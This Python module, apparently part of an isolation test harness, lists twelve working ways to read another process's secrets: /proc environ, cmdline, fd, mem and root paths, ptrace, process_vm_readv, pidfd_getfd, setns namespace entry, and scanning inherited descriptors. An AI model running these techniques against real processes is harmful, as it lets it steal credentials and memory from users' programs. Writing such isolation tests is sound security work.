"""Ways into another process of the same user: it holds a secret in memory, in its environment and in an open
file.
"""

from __future__ import annotations

import ctypes
import os
from pathlib import Path
from typing import Any

from arsenal.kernel import CLONE_NEWNS, call, check, libc, slurp

PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def victim(config: dict[str, Any]) -> str:
    return f"/proc/{config['victim']['pid']}"


def root(config: dict[str, Any]) -> bytes:
    return Path(f"{victim(config)}/root{config['targets']['raw']}").read_bytes()


def working_folder(config: dict[str, Any]) -> bytes:
    return Path(f"{victim(config)}/cwd/{os.path.basename(config['targets']['raw'])}").read_bytes()


def descriptor(config: dict[str, Any]) -> bytes:
    return Path(f"{victim(config)}/fd/{config['victim']['descriptor']}").read_bytes()


def environment(config: dict[str, Any]) -> bytes:
    return Path(f"{victim(config)}/environ").read_bytes()


def command_line(config: dict[str, Any]) -> bytes:
    return Path(f"{victim(config)}/cmdline").read_bytes()


def memory_file(config: dict[str, Any]) -> bytes:
    with open(f"{victim(config)}/mem", "rb", buffering=0) as memory:
        memory.seek(config["victim"]["address"])
        return memory.read(config["victim"]["length"])


def ptrace(config: dict[str, Any]) -> bytes:
    pid = config["victim"]["pid"]
    check(libc.ptrace(PTRACE_ATTACH, pid, None, None))
    try:
        os.waitpid(pid, 0)
        return memory_file(config)
    finally:
        libc.ptrace(PTRACE_DETACH, pid, None, None)


class Span(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def process_vm_readv(config: dict[str, Any]) -> bytes:
    length = config["victim"]["length"]
    buffer = ctypes.create_string_buffer(length)
    ours, theirs = Span(ctypes.addressof(buffer), length), Span(config["victim"]["address"], length)
    call("process_vm_readv", config["victim"]["pid"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return buffer.raw


def pidfd_getfd(config: dict[str, Any]) -> bytes:
    process = os.pidfd_open(config["victim"]["pid"])
    return slurp(call("pidfd_getfd", process, config["victim"]["descriptor"], 0))


def setns(config: dict[str, Any]) -> bytes:
    check(libc.setns(os.open(f"{victim(config)}/ns/mnt", os.O_RDONLY), CLONE_NEWNS))
    return Path(config["targets"]["raw"]).read_bytes()


def setns_pidfd(config: dict[str, Any]) -> bytes:
    check(libc.setns(os.pidfd_open(config["victim"]["pid"]), CLONE_NEWNS))
    return Path(config["targets"]["raw"]).read_bytes()


def inherited_descriptor(config: dict[str, Any]) -> bytes:
    """Whatever was left open when the stage was started."""
    found = b""
    for number in range(3, 256):
        try:
            found += os.pread(number, 1 << 16, 0)
        except OSError:
            continue
    if not found:
        raise OSError("nothing was left open")
    return found


ATTACKS = [
    root,
    working_folder,
    descriptor,
    environment,
    command_line,
    memory_file,
    ptrace,
    process_vm_readv,
    pidfd_getfd,
    setns,
    setns_pidfd,
    inherited_descriptor,
]
PRIVILEGED = [setns, setns_pidfd]
